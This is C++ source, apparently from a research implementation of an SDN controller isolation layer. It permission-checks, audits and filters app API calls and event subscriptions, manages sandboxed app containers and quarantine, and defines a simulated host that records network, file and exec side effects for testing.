  return viaDeputy<Response>(runtime_, app_, [this]() -> Response {
    auto compiled = runtime_.engine().compiled(app_);
    perm::ApiCall call = perm::ApiCall::readTopology(app_);
    engine::Decision decision =
        compiled ? compiled->check(call)
                 : engine::Decision::deny("app not installed");
    runtime_.controller().audit().record(call, decision.allowed,
                                         decision.reason);
    if (!decision.allowed) {
      return Response::failure(ctrl::ApiErrc::kPermissionDenied,
                               decision.reason);
    }
    net::Topology topology = runtime_.controller().kernelReadTopology();
    // Virtual abstraction wins over plain projection when both are present.
    if (compiled->virtualTopology()) {
      auto vtopo = runtime_.virtualTopologyFor(app_);
      if (vtopo) return Response::success(vtopo->abstractView());
    }
    if (const auto* projection = compiled->topologyProjection()) {
      net::Topology restricted = topology.restrictTo(projection->switches());
      if (!projection->links().empty()) {
        for (const net::Link& link : restricted.links()) {
          auto key = std::minmax(link.a.dpid, link.b.dpid);
          if (!projection->links().contains({key.first, key.second})) {
            restricted.removeLink(link.a.dpid, link.b.dpid);
          }
        }
      }
      return Response::success(std::move(restricted));
    }
    return Response::success(std::move(topology));
  });
}

ctrl::ApiResponse<of::StatsReply> ShieldedApi::readStatistics(
    const of::StatsRequest& request) {
  using Response = ctrl::ApiResponse<of::StatsReply>;
  return viaDeputy<Response>(runtime_, app_, [this, request]() -> Response {
    auto compiled = runtime_.engine().compiled(app_);
    perm::ApiCall call = perm::ApiCall::readStatistics(app_, request);
    // Flow-level requests are checked per returned entry (projection), so
    // the call-level check omits the match attribute.
    call.match.reset();
    engine::Decision decision =
        compiled ? compiled->check(call)
                 : engine::Decision::deny("app not installed");
    runtime_.controller().audit().record(call, decision.allowed,
                                         decision.reason);
    if (!decision.allowed) {
      return Response::failure(ctrl::ApiErrc::kPermissionDenied,
                               decision.reason);
    }

    // Virtual big switch: query members and aggregate (§VI-B.1).
    if (request.dpid == kVirtualDpid) {
      auto vtopo = runtime_.virtualTopologyFor(app_);
      if (!vtopo) {
        return Response::failure(ctrl::ApiErrc::kPermissionDenied,
                                 "no virtual topology granted");
      }
      of::StatsReply aggregate;
      aggregate.level = request.level;
      aggregate.dpid = kVirtualDpid;
      std::vector<of::SwitchStats> memberStats;
      std::vector<of::FlowStatsEntry> memberFlows;
      for (of::DatapathId member : vtopo->virtualSwitch().members) {
        of::StatsRequest memberRequest = request;
        memberRequest.dpid = member;
        auto response =
            runtime_.controller().kernelReadStatistics(memberRequest);
        if (!response.ok()) continue;
        memberStats.push_back(response.value().switchStats);
        memberFlows.insert(memberFlows.end(), response.value().flows.begin(),
                           response.value().flows.end());
        aggregate.ports.insert(aggregate.ports.end(),
                               response.value().ports.begin(),
                               response.value().ports.end());
      }
      aggregate.switchStats = vtopo->aggregateSwitchStats(memberStats);
      aggregate.flows = vtopo->aggregateFlowStats(memberFlows);
      return Response::success(std::move(aggregate));
    }

    auto response = runtime_.controller().kernelReadStatistics(request);
    if (!response.ok() || request.level != of::StatsLevel::kFlow) {
      return response;
    }
    // Flow-level: project the reply through the per-entry filter.
    engine::OwnershipTracker& ownership = runtime_.controller().ownership();
    std::vector<of::FlowStatsEntry> visible;
    for (of::FlowStatsEntry& entry : response.value().flows) {
      perm::ApiCall entryCall = call;
      entryCall.match = entry.match;
      entryCall.priority = entry.priority;
      auto owner = ownership.ownerOf(request.dpid, entry.match, entry.priority);
      entryCall.ownFlow = owner && *owner == app_;
      if (compiled->check(entryCall).allowed) {
        visible.push_back(std::move(entry));
      }
    }
    response.value().flows = std::move(visible);
    return response;
  });
}

ctrl::ApiResult ShieldedApi::doSendPacketOut(const of::PacketOut& packetOut) {
  auto compiled = runtime_.engine().compiled(app_);
  if (!compiled) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kPermissionDenied,
                                    "app not installed");
  }
  of::PacketOut verified = packetOut;
  // Provenance is established by the deputy, not trusted from the app: the
  // packet must byte-match one recently delivered to this app as a
  // packet-in (FROM_PKT_IN filter input).
  verified.fromPacketIn = recent_ && recent_->seen(packetOut.packet);
  perm::ApiCall call = perm::ApiCall::sendPacketOut(app_, verified);
  engine::Decision decision = compiled->check(call);
  runtime_.controller().audit().record(call, decision.allowed,
                                       decision.reason);
  if (!decision.allowed) return denied(decision);
  if (verified.dpid == kVirtualDpid) {
    auto vtopo = runtime_.virtualTopologyFor(app_);
    if (!vtopo) {
      return ctrl::ApiResult::failure(ctrl::ApiErrc::kPermissionDenied,
                                      "no virtual topology granted");
    }
    try {
      auto [physDpid, physOut] = vtopo->translatePacketOut(verified);
      return runtime_.controller().kernelSendPacketOut(physOut);
    } catch (const std::invalid_argument& error) {
      return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                      error.what());
    }
  }
  return runtime_.controller().kernelSendPacketOut(verified);
}

ctrl::ApiResult ShieldedApi::sendPacketOut(const of::PacketOut& packetOut) {
  return viaDeputy<ctrl::ApiResult>(
      runtime_, app_,
      [this, packetOut] { return doSendPacketOut(packetOut); });
}

ctrl::ApiResult ShieldedApi::publishData(const std::string& topic,
                                         const std::string& payload) {
  return viaDeputy<ctrl::ApiResult>(runtime_, app_, [this, topic, payload] {
    // Data-model publication writes the controller's network view: mediated
    // under modify_topology (cf. the YANG data-broker mediation, §VIII-B).
    auto compiled = runtime_.engine().compiled(app_);
    perm::ApiCall call;
    call.type = perm::ApiCallType::kModifyTopology;
    call.app = app_;
    engine::Decision decision =
        compiled ? compiled->check(call)
                 : engine::Decision::deny("app not installed");
    runtime_.controller().audit().record(call, decision.allowed,
                                         decision.reason);
    if (!decision.allowed) return denied(decision);
    runtime_.controller().kernelPublishData(app_, topic, payload);
    return ctrl::ApiResult::success();
  });
}

ctrl::ApiResponse<ctrl::StatsReport> ShieldedApi::statsReport() {
  using Response = ctrl::ApiResponse<ctrl::StatsReport>;
  return viaDeputy<Response>(runtime_, app_, [this]() -> Response {
    auto compiled = runtime_.engine().compiled(app_);
    // Controller-wide counters are switch-granularity data: the report is
    // gated behind read_statistics at SWITCH level, so a flow- or
    // port-scoped statistics grant does not expose the fleet view.
    perm::ApiCall call;
    call.type = perm::ApiCallType::kReadStatistics;
    call.app = app_;
    call.statsLevel = of::StatsLevel::kSwitch;
    engine::Decision decision =
        compiled ? compiled->check(call)
                 : engine::Decision::deny("app not installed");
    runtime_.controller().audit().record(call, decision.allowed,
                                         decision.reason);
    if (!decision.allowed) {
      return Response::failure(ctrl::ApiErrc::kPermissionDenied,
                               decision.reason);
    }
    return Response::success(runtime_.controller().statsReport());
  });
}

namespace {

/// Deputy-side market_admin gate shared by the three lifecycle calls.
engine::Decision checkMarketAdmin(ShieldRuntime& runtime, of::AppId app,
                                  const std::string& operation) {
  auto compiled = runtime.engine().compiled(app);
  perm::ApiCall call = perm::ApiCall::marketAdmin(app, operation);
  engine::Decision decision = compiled
                                  ? compiled->check(call)
                                  : engine::Decision::deny("app not installed");
  runtime.controller().audit().record(call, decision.allowed, decision.reason);
  return decision;
}

}  // namespace

ctrl::ApiResult ShieldedApi::updatePolicy(const std::string& policyText) {
  return viaDeputy<ctrl::ApiResult>(
      runtime_, app_, [this, policyText]() -> ctrl::ApiResult {
        engine::Decision decision =
            checkMarketAdmin(runtime_, app_, "update_policy");
        if (!decision.allowed) return denied(decision);
        ctrl::MarketControl* market = runtime_.controller().marketControl();
        if (!market) {
          return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                          "no app market attached");
        }
        // Deputy-thread safe: the market's policy swap never joins app
        // containers (it only touches the permission engine + journal).
        return market->updatePolicy(policyText);
      });
}

ctrl::ApiResult ShieldedApi::revokeApp(of::AppId app,
                                       const std::string& reason) {
  return viaDeputy<ctrl::ApiResult>(
      runtime_, app_, [this, app, reason]() -> ctrl::ApiResult {
        engine::Decision decision = checkMarketAdmin(
            runtime_, app_, "revoke " + std::to_string(app));
        if (!decision.allowed) return denied(decision);
        ctrl::MarketControl* market = runtime_.controller().marketControl();
        if (!market) {
          return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                          "no app market attached");
        }
        // Deputy-thread safe: revocation quarantines (seals, never joins)
        // the target container.
        return market->revokeApp(app, reason);
      });
}

ctrl::ApiResponse<std::string> ShieldedApi::marketReport() {
  using Response = ctrl::ApiResponse<std::string>;
  return viaDeputy<Response>(runtime_, app_, [this]() -> Response {
    engine::Decision decision = checkMarketAdmin(runtime_, app_, "report");
    if (!decision.allowed) {
      return Response::failure(ctrl::ApiErrc::kPermissionDenied,
                               decision.reason);
    }
    ctrl::MarketControl* market = runtime_.controller().marketControl();
    if (!market) {
      return Response::failure(ctrl::ApiErrc::kInvalidArgument,
                               "no app market attached");
    }
    return Response::success(market->report());
  });
}

// --- ShieldedContext --------------------------------------------------------------

ShieldedContext::ShieldedContext(ShieldRuntime& runtime, of::AppId app,
                                 std::shared_ptr<ThreadContainer> container)
    : runtime_(runtime),
      app_(app),
      container_(std::move(container)),
      recent_(std::make_shared<RecentPacketIns>()),
      api_(runtime, app, recent_) {}

ctrl::HostServices& ShieldedContext::host() {
  return runtime_.referenceMonitor();
}

namespace {

/// Checks an event-subscription call on a deputy and records it.
ctrl::ApiResult checkSubscribe(ShieldRuntime& runtime, of::AppId app,
                               perm::ApiCallType type) {
  return viaDeputy<ctrl::ApiResult>(runtime, app, [&runtime, app, type] {
    perm::ApiCall call = perm::ApiCall::subscribe(app, type);
    engine::Decision decision = runtime.engine().check(call);
    runtime.controller().audit().record(call, decision.allowed,
                                        decision.reason);
    if (!decision.allowed) return denied(decision);
    return ctrl::ApiResult::success();
  });
}

}  // namespace

ctrl::ApiResponse<ctrl::SubscriptionId> ShieldedContext::subscribePacketIn(
    std::function<void(const ctrl::PacketInEvent&)> handler) {
  using Response = ctrl::ApiResponse<ctrl::SubscriptionId>;
  ctrl::ApiResult checked = checkSubscribe(
      runtime_, app_, perm::ApiCallType::kSubscribePacketIn);
  if (!checked.ok()) return Response::failure(checked.error());
  ShieldRuntime& runtime = runtime_;
  of::AppId app = app_;
  auto container = container_;
  auto recent = recent_;
  ctrl::SubscriptionId id = runtime_.controller().addPacketInSubscriber(
      app_, [&runtime, app, container, recent,
             handler = std::move(handler)](const ctrl::Event& event) {
        const auto* typed = std::get_if<ctrl::PacketInEvent>(&event);
        if (typed == nullptr) return;
        ctrl::PacketInEvent delivered = *typed;
        auto compiled = runtime.engine().compiled(app);
        // Payload in pkt-in messages is a separate privilege (read_payload,
        // Table II): strip it for apps that only hold pkt_in_event.
        if (!compiled || !compiled->hasToken(perm::Token::kReadPayload)) {
          delivered.packetIn.packet.payload.clear();
        }
        recent->remember(delivered.packetIn.packet);
        if (!container->tryPost([handler, delivered = std::move(delivered)] {
              handler(delivered);
            })) {
          runtime.supervisor().recordEventDrop(app);
        }
      });
  return Response::success(id);
}

ctrl::ApiResponse<ctrl::SubscriptionId>
ShieldedContext::subscribePacketInInterceptor(
    std::function<bool(const ctrl::PacketInEvent&)> handler) {
  using Response = ctrl::ApiResponse<ctrl::SubscriptionId>;
  // Interception is a stronger privilege than observation: the subscribe
  // call carries CallbackOp::kIntercept, which the EVENT_INTERCEPTION
  // callback filter must admit.
  ctrl::ApiResult checked =
      viaDeputy<ctrl::ApiResult>(runtime_, app_, [this] {
        perm::ApiCall call = perm::ApiCall::subscribe(
            app_, perm::ApiCallType::kSubscribePacketIn,
            perm::CallbackOp::kIntercept);
        engine::Decision decision = runtime_.engine().check(call);
        runtime_.controller().audit().record(call, decision.allowed,
                                             decision.reason);
        if (!decision.allowed) return denied(decision);
        return ctrl::ApiResult::success();
      });
  if (!checked.ok()) return Response::failure(checked.error());
  ShieldRuntime& runtime = runtime_;
  of::AppId app = app_;
  auto recent = recent_;
  // Interception is inherently synchronous (the consume/forward decision
  // gates delivery to other apps), so the handler runs on the dispatch
  // thread — under the app's ambient identity, so host calls made from it
  // are still attributed and mediated correctly.
  ctrl::SubscriptionId id = runtime_.controller().addPacketInInterceptor(
      app_, [&runtime, app, recent,
             handler = std::move(handler)](const ctrl::Event& event) {
        const auto* typed = std::get_if<ctrl::PacketInEvent>(&event);
        if (typed == nullptr) return false;
        ctrl::PacketInEvent delivered = *typed;
        auto compiled = runtime.engine().compiled(app);
        if (!compiled || !compiled->hasToken(perm::Token::kReadPayload)) {
          delivered.packetIn.packet.payload.clear();
        }
        recent->remember(delivered.packetIn.packet);
        ScopedIdentity identity(app);
        return handler(delivered);
      });
  return Response::success(id);
}

ctrl::ApiResponse<ctrl::SubscriptionId> ShieldedContext::subscribeFlowEvents(
    std::function<void(const ctrl::FlowEvent&)> handler) {
  using Response = ctrl::ApiResponse<ctrl::SubscriptionId>;
  ctrl::ApiResult checked = checkSubscribe(
      runtime_, app_, perm::ApiCallType::kSubscribeFlowEvent);
  if (!checked.ok()) return Response::failure(checked.error());
  ShieldRuntime& runtime = runtime_;
  of::AppId app = app_;
  auto container = container_;
  ctrl::SubscriptionId id = runtime_.controller().addFlowSubscriber(
      app_, [&runtime, app, container,
             handler = std::move(handler)](const ctrl::Event& event) {
        const auto* typed = std::get_if<ctrl::FlowEvent>(&event);
        if (typed == nullptr) return;
        // Per-event filtering: a flow_event grant with e.g. OWN_FLOWS or a
        // predicate filter only sees matching notifications.
        auto compiled = runtime.engine().compiled(app);
        if (compiled) {
          perm::ApiCall eventCall = perm::ApiCall::subscribe(
              app, perm::ApiCallType::kSubscribeFlowEvent);
          eventCall.dpid = typed->dpid;
          eventCall.match = typed->match;
          eventCall.priority = typed->priority;
          eventCall.ownFlow = typed->issuer == app;
          if (!compiled->check(eventCall).allowed) return;
        }
        ctrl::FlowEvent delivered = *typed;
        if (!container->tryPost([handler, delivered] { handler(delivered); })) {
          runtime.supervisor().recordEventDrop(app);
        }
      });
  return Response::success(id);
}

ctrl::ApiResponse<ctrl::SubscriptionId>
ShieldedContext::subscribeTopologyEvents(
    std::function<void(const ctrl::TopologyEvent&)> handler) {
  using Response = ctrl::ApiResponse<ctrl::SubscriptionId>;
  ctrl::ApiResult checked = checkSubscribe(
      runtime_, app_, perm::ApiCallType::kSubscribeTopologyEvent);
  if (!checked.ok()) return Response::failure(checked.error());
  ShieldRuntime& runtime = runtime_;
  of::AppId app = app_;
  auto container = container_;
  ctrl::SubscriptionId id = runtime_.controller().addTopologySubscriber(
      app_, [&runtime, app, container,
             handler = std::move(handler)](const ctrl::Event& event) {
        const auto* typed = std::get_if<ctrl::TopologyEvent>(&event);
        if (typed == nullptr) return;
        auto compiled = runtime.engine().compiled(app);
        if (compiled) {
          perm::ApiCall eventCall = perm::ApiCall::subscribe(
              app, perm::ApiCallType::kSubscribeTopologyEvent);
          eventCall.topoSwitches.push_back(typed->dpidA);
          if (typed->change == ctrl::TopologyChange::kLinkUp ||
              typed->change == ctrl::TopologyChange::kLinkDown) {
            eventCall.topoSwitches.push_back(typed->dpidB);
            eventCall.topoLinks.emplace_back(typed->dpidA, typed->dpidB);
          }
          if (!compiled->check(eventCall).allowed) return;
        }
        ctrl::TopologyEvent delivered = *typed;
        if (!container->tryPost([handler, delivered] { handler(delivered); })) {
          runtime.supervisor().recordEventDrop(app);
        }
      });
  return Response::success(id);
}

ctrl::ApiResponse<ctrl::SubscriptionId> ShieldedContext::subscribeErrorEvents(
    std::function<void(const ctrl::ErrorEvent&)> handler) {
  using Response = ctrl::ApiResponse<ctrl::SubscriptionId>;
  ctrl::ApiResult checked = checkSubscribe(
      runtime_, app_, perm::ApiCallType::kSubscribeErrorEvent);
  if (!checked.ok()) return Response::failure(checked.error());
  ShieldRuntime& runtime = runtime_;
  of::AppId app = app_;
  auto container = container_;
  ctrl::SubscriptionId id = runtime_.controller().addErrorSubscriber(
      app_, [&runtime, app, container,
             handler = std::move(handler)](const ctrl::Event& event) {
        const auto* typed = std::get_if<ctrl::ErrorEvent>(&event);
        if (typed == nullptr) return;
        ctrl::ErrorEvent delivered = *typed;
        if (!container->tryPost([handler, delivered] { handler(delivered); })) {
          runtime.supervisor().recordEventDrop(app);
        }
      });
  return Response::success(id);
}

ctrl::ApiResponse<ctrl::SubscriptionId> ShieldedContext::subscribeData(
    const std::string& topic,
    std::function<void(const ctrl::DataUpdateEvent&)> handler) {
  using Response = ctrl::ApiResponse<ctrl::SubscriptionId>;
  // Data-model event notification is mediated under topology_event (the
  // published data is network-view data; see publishData).
  ctrl::ApiResult checked = checkSubscribe(
      runtime_, app_, perm::ApiCallType::kSubscribeTopologyEvent);
  if (!checked.ok()) return Response::failure(checked.error());
  ShieldRuntime& runtime = runtime_;
  of::AppId app = app_;
  auto container = container_;
  ctrl::SubscriptionId id = runtime_.controller().addDataSubscriber(
      app_, topic,
      [&runtime, app, container,
       handler = std::move(handler)](const ctrl::Event& event) {
        const auto* typed = std::get_if<ctrl::DataUpdateEvent>(&event);
        if (typed == nullptr) return;
        ctrl::DataUpdateEvent delivered = *typed;
        if (!container->tryPost([handler, delivered] { handler(delivered); })) {
          runtime.supervisor().recordEventDrop(app);
        }
      });
  return Response::success(id);
}

ctrl::ApiResult ShieldedContext::unsubscribe(ctrl::SubscriptionId id) {
  // Ownership-checked: an app can only cancel its own subscriptions.
  if (!runtime_.controller().removeSubscription(id, app_)) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kInvalidArgument,
                                    "unknown subscription");
  }
  return ctrl::ApiResult::success();
}

// --- ShieldRuntime -------------------------------------------------------------

ShieldRuntime::ShieldRuntime(ctrl::Controller& controller,
                             ShieldOptions options)
    : controller_(controller),
      options_(options),
      ksd_(options.ksdThreads, options.ksdCallTimeout, options.ksdBatchMax),
      supervisor_(options.supervisor),
      monitor_(host_, &engine_, &controller.audit()) {
  supervisor_.setQuarantineHook(
      [this](of::AppId app, const std::string& reason) {
        quarantineApp(app, reason);
      });
  ksd_.start();
  if (options_.supervise) supervisor_.start();
}

ShieldRuntime::~ShieldRuntime() { shutdown(); }

of::AppId ShieldRuntime::loadApp(std::shared_ptr<ctrl::App> app,
                                 const perm::PermissionSet& granted) {
  return loadAppImpl(std::nullopt, std::move(app), granted);
}

void ShieldRuntime::loadAppAs(of::AppId id, std::shared_ptr<ctrl::App> app,
                              const perm::PermissionSet& granted) {
  if (id == 0) throw std::invalid_argument("app id 0 is reserved");
  loadAppImpl(id, std::move(app), granted);
}

of::AppId ShieldRuntime::loadAppImpl(std::optional<of::AppId> requestedId,
                                     std::shared_ptr<ctrl::App> app,
                                     const perm::PermissionSet& granted) {
  of::AppId id;
  std::shared_ptr<ThreadContainer> container;
  std::shared_ptr<ShieldedContext> context;
  {
    std::lock_guard lock(mutex_);
    if (requestedId) {
      if (apps_.count(*requestedId)) {
        throw std::invalid_argument("app id already loaded: " +
                                    std::to_string(*requestedId));
      }
      id = *requestedId;
      // Keep fresh assignments past any replayed id (journal recovery loads
      // apps under their pre-crash ids).
      nextAppId_ = std::max(nextAppId_, id + 1);
    } else {
      id = nextAppId_++;
    }
    engine_.install(id, granted);
    container = std::make_shared<ThreadContainer>(id, app->name(),
                                                  options_.appQueueCapacity);
    // Contained faults are audited and feed the supervisor's health state.
    container->setFaultHandler(
        [this, id](std::exception_ptr, const std::string& what) {
          controller_.audit().recordFault(id, what);
          supervisor_.recordFault(id, what);
        });
    container->start();
    context = std::make_shared<ShieldedContext>(*this, id, container);
    apps_[id] = LoadedApp{app, container, context};
  }
  supervisor_.watch(id, container);
  // App initiation code runs inside the sandbox (paper §VIII-B). A
  // throwing init is contained: the app stays loaded but flagged faulty.
  try {
    container->postAndWait([app, context] { app->init(*context); });
  } catch (...) {
    std::string what = describeException(std::current_exception());
    controller_.audit().recordFault(id, "init threw: " + what);
    supervisor_.recordFault(id, "init threw: " + what);
  }
  return id;
}

std::string ShieldRuntime::LoadReport::toString() const {
  std::ostringstream out;
  out << "app " << appId << ": ";
  if (fullyGranted()) {
    out << "all requested permissions granted";
    return out.str();
  }
  if (!deniedTokens.empty()) {
    out << "statically denied:";
    for (perm::Token token : deniedTokens) out << " " << perm::toString(token);
    out << "; ";
  }
  if (!narrowedTokens.empty()) {
    out << "narrowed (runtime filters):";
    for (perm::Token token : narrowedTokens) {
      out << " " << perm::toString(token);
    }
  }
  return out.str();
}

ShieldRuntime::LoadReport ShieldRuntime::loadAppChecked(
    std::shared_ptr<ctrl::App> app, const perm::PermissionSet& granted) {
  LoadReport report;
  // The loading-time pass mirrors OSGi's link-time security: requested API
  // families with no grant at all need no runtime mediation hooks; granted-
  // but-narrowed ones are flagged for the administrator.
  perm::PermissionSet requested =
      lang::parseManifest(app->requestedManifest()).permissions;
  for (const perm::Permission& want : requested.permissions()) {
    auto grant = granted.filterFor(want.token);
    if (!grant) {
      report.deniedTokens.push_back(want.token);
    } else if (!perm::filterIncludes(*grant, want.filter)) {
      report.narrowedTokens.push_back(want.token);
    }
  }
  report.appId = loadApp(std::move(app), granted);
  return report;
}

void ShieldRuntime::unloadApp(of::AppId app) {
  LoadedApp loaded;
  {
    std::lock_guard lock(mutex_);
    auto it = apps_.find(app);
    if (it == apps_.end()) return;
    loaded = std::move(it->second);
    apps_.erase(it);
    // Drop the async-window registry entry: in-flight futures keep the
    // window itself alive through their RAII slot guards, so only the map
    // slot (the would-be leak across install/uninstall cycles) goes away.
    windows_.erase(app);
  }
  supervisor_.forget(app);
  controller_.removeSubscribers(app);
  loaded.container->stop();
  engine_.uninstall(app);
  std::lock_guard lock(mutex_);
  retired_.push_back(std::move(loaded));
}

void ShieldRuntime::swapApp(of::AppId id, std::shared_ptr<ctrl::App> next,
                            const perm::PermissionSet& granted) {
  LoadedApp old;
  std::shared_ptr<ThreadContainer> container;
  std::shared_ptr<ShieldedContext> context;
  {
    std::lock_guard lock(mutex_);
    auto it = apps_.find(id);
    if (it == apps_.end()) {
      throw std::invalid_argument("swapApp: unknown app id " +
                                  std::to_string(id));
    }
    old = std::move(it->second);
    apps_.erase(it);
  }
  // Retire the old instance first (host-level call: stop() joins the
  // container thread, so swapApp must never run on a deputy). Its grant
  // stays installed while it drains — in-flight calls check against the old
  // permissions until the single install below replaces them.
  supervisor_.forget(id);
  controller_.removeSubscribers(id);
  old.container->stop();
  {
    std::lock_guard lock(mutex_);
    // ONE engine install atomically replaces the old compiled set with the
    // new one: a concurrent check() sees either v(old) or v(next), never a
    // permission gap.
    engine_.install(id, granted);
    container = std::make_shared<ThreadContainer>(id, next->name(),
                                                  options_.appQueueCapacity);
    container->setFaultHandler(
        [this, id](std::exception_ptr, const std::string& what) {
          controller_.audit().recordFault(id, what);
          supervisor_.recordFault(id, what);
        });
    container->start();
    context = std::make_shared<ShieldedContext>(*this, id, container);
    apps_[id] = LoadedApp{next, container, context};
    retired_.push_back(std::move(old));
  }
  supervisor_.watch(id, container);
  try {
    container->postAndWait([next, context] { next->init(*context); });
  } catch (...) {
    std::string what = describeException(std::current_exception());
    controller_.audit().recordFault(id, "init threw: " + what);
    supervisor_.recordFault(id, "init threw: " + what);
  }
}

void ShieldRuntime::reclaimRetired() {
  std::vector<LoadedApp> drop;
  {
    std::lock_guard lock(mutex_);
    drop.swap(retired_);
  }
  // Destroyed outside the lock: shells own containers whose destructors may
  // join exited threads.
}

std::size_t ShieldRuntime::loadedAppCount() const {
  std::lock_guard lock(mutex_);
  return apps_.size();
}

std::size_t ShieldRuntime::windowCount() const {
  std::lock_guard lock(mutex_);
  return windows_.size();
}

std::size_t ShieldRuntime::retiredCount() const {
  std::lock_guard lock(mutex_);
  return retired_.size();
}

void ShieldRuntime::quarantineApp(of::AppId app, const std::string& reason) {
  std::shared_ptr<ThreadContainer> container;
  {
    std::lock_guard lock(mutex_);
    auto it = apps_.find(app);
    if (it == apps_.end()) return;
    container = it->second.container;
    // Release the async-window registry slot; futures already in flight
    // hold the window via their RAII slot guards and still resolve.
    windows_.erase(app);
  }
  // Order matters: cut event delivery first, then revoke privileges, then
  // seal the container (pending tasks are discarded — their waiters see
  // broken promises rather than hanging). The container thread itself is
  // left to exit on its own; if it is truly hung, a later stop() abandons
  // it without blocking shutdown.
  controller_.removeSubscribers(app);
  engine_.uninstall(app);
  container->quarantine();
  // The supervision record carries the recent span trail: what the
  // controller (deputies, containers, dispatch) was doing right before the
  // quarantine, for post-mortem reconstruction.
  controller_.audit().recordSupervision(
      app, "quarantined: " + reason,
      obs::Tracer::formatTrail(obs::Tracer::global().recentSpans()));
}

void ShieldRuntime::shutdown() {
  // Stop the watchdog first so no quarantine races the teardown.
  supervisor_.stop();
  std::map<of::AppId, LoadedApp> apps;
  {
    std::lock_guard lock(mutex_);
    apps.swap(apps_);
  }
  for (auto& [id, loaded] : apps) {
    supervisor_.forget(id);
    controller_.removeSubscribers(id);
    loaded.container->stop();
    engine_.uninstall(id);
  }
  ksd_.stop();
  std::lock_guard lock(mutex_);
  for (auto& [id, loaded] : apps) {
    windows_.erase(id);
    retired_.push_back(std::move(loaded));
  }
}

std::shared_ptr<ThreadContainer> ShieldRuntime::container(
    of::AppId app) const {
  std::lock_guard lock(mutex_);
  auto it = apps_.find(app);
  return it == apps_.end() ? nullptr : it->second.container;
}

std::shared_ptr<InFlightWindow> ShieldRuntime::inFlightWindow(of::AppId app) {
  std::lock_guard lock(mutex_);
  std::shared_ptr<InFlightWindow>& window = windows_[app];
  if (!window) {
    window = std::make_shared<InFlightWindow>(
        options_.asyncWindow == 0 ? 1 : options_.asyncWindow);
  }
  return window;
}

bool ShieldRuntime::isQuarantined(of::AppId app) const {
  std::shared_ptr<ThreadContainer> appContainer = container(app);
  return appContainer != nullptr && appContainer->quarantined();
}

std::optional<net::VirtualTopology> ShieldRuntime::virtualTopologyFor(
    of::AppId app) const {
  auto compiled = engine_.compiled(app);
  if (!compiled || !compiled->virtualTopology()) return std::nullopt;
  net::Topology physical = controller_.kernelReadTopology();
  const std::set<of::DatapathId>& members = *compiled->virtualTopology();
  if (members.empty()) {
    return net::VirtualTopology::singleBigSwitch(physical, kVirtualDpid);
  }
  return net::VirtualTopology::bigSwitch(physical, members, kVirtualDpid);
}

// --- BaselineRuntime -------------------------------------------------------------

of::AppId BaselineRuntime::loadApp(std::shared_ptr<ctrl::App> app) {
  of::AppId id = nextAppId_++;
  auto context =
      std::make_unique<ctrl::DirectContext>(controller_, id, monitor_);
  // Monolithic architecture: init runs inline, handlers run on the
  // controller's dispatch thread — no privilege boundary at all. The scoped
  // identity only attributes host records for observation.
  {
    ScopedIdentity identity(id);
    app->init(*context);
  }
  apps_.push_back(LoadedApp{std::move(app), std::move(context)});
  return id;
}

}  // namespace sdnshield::iso
