#include "isolation/host_system.h"

#include <algorithm>

namespace sdnshield::iso {

void HostSystem::deliverNet(NetMessage message) {
  std::lock_guard lock(mutex_);
  net_.push_back(std::move(message));
}

void HostSystem::deliverFile(FileRecord record) {
  std::lock_guard lock(mutex_);
  files_.push_back(std::move(record));
}

void HostSystem::deliverExec(ExecRecord record) {
  std::lock_guard lock(mutex_);
  execs_.push_back(std::move(record));
}

std::vector<HostSystem::NetMessage> HostSystem::netMessages() const {
  std::lock_guard lock(mutex_);
  return net_;
}

std::vector<HostSystem::NetMessage> HostSystem::netMessagesTo(
    of::Ipv4Address remoteIp) const {
  std::lock_guard lock(mutex_);
  std::vector<NetMessage> out;
  std::copy_if(net_.begin(), net_.end(), std::back_inserter(out),
               [&](const NetMessage& message) {
                 return message.remoteIp == remoteIp;
               });
  return out;
}

std::vector<HostSystem::FileRecord> HostSystem::fileRecords() const {
  std::lock_guard lock(mutex_);
  return files_;
}

std::vector<HostSystem::ExecRecord> HostSystem::execRecords() const {
  std::lock_guard lock(mutex_);
  return execs_;
}

void HostSystem::clear() {
  std::lock_guard lock(mutex_);
  net_.clear();
  files_.clear();
  execs_.clear();
}

}  // namespace sdnshield::iso
