// Simulated host operating system. The paper's host resources (network
// outside the control channel, file system, process runtime) are modelled as
// recording sinks so tests and the effectiveness benchmark can *observe*
// whether an attack's side effects actually happened (e.g. did the leaked
// topology reach the attacker's collector?).
#pragma once

#include <cstdint>
#include <mutex>
#include <string>
#include <vector>

#include "of/flow_mod.h"
#include "of/types.h"

namespace sdnshield::iso {

class HostSystem {
 public:
  struct NetMessage {
    of::AppId app = 0;
    of::Ipv4Address remoteIp;
    std::uint16_t remotePort = 0;
    std::string data;
  };
  struct FileRecord {
    of::AppId app = 0;
    std::string path;
    std::string data;
  };
  struct ExecRecord {
    of::AppId app = 0;
    std::string command;
  };

  // Called by the reference monitor after a permitted operation.
  void deliverNet(NetMessage message);
  void deliverFile(FileRecord record);
  void deliverExec(ExecRecord record);

  std::vector<NetMessage> netMessages() const;
  /// Messages that reached a specific remote endpoint (attack observation).
  std::vector<NetMessage> netMessagesTo(of::Ipv4Address remoteIp) const;
  std::vector<FileRecord> fileRecords() const;
  std::vector<ExecRecord> execRecords() const;
  void clear();

 private:
  mutable std::mutex mutex_;
  std::vector<NetMessage> net_;
  std::vector<FileRecord> files_;
  std::vector<ExecRecord> execs_;
};

}  // namespace sdnshield::iso
