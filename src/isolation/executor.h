// The scheduler seam the deterministic interleaving explorer (src/mck)
// hooks into. In production nothing is installed and every hook below is a
// single relaxed atomic load returning nullptr — containers and deputies
// run on real threads exactly as before.
//
// Under a model-checking run, mck installs a VirtualExecutor process-wide.
// ThreadContainer and KsdPool then stop spawning threads: their task queues
// are registered here and every posted task becomes a *step* the virtual
// scheduler runs inline, one at a time. Blocking waits (postAndWait,
// KsdPool::call, the async ApiFuture wait) become await() calls, and every
// FaultInjector site doubles as a schedulePoint() where a scenario thread
// is parked so the explorer can pick what runs next.
#pragma once

#include <atomic>
#include <functional>
#include <string>
#include <string_view>

namespace sdnshield::iso {

class VirtualExecutor {
 public:
  virtual ~VirtualExecutor() = default;

  /// Announces a task queue (one per ThreadContainer / KsdPool). @p tag is
  /// the owner's identity for later enqueue/drain calls; @p label is the
  /// human-readable actor name used in explorer traces.
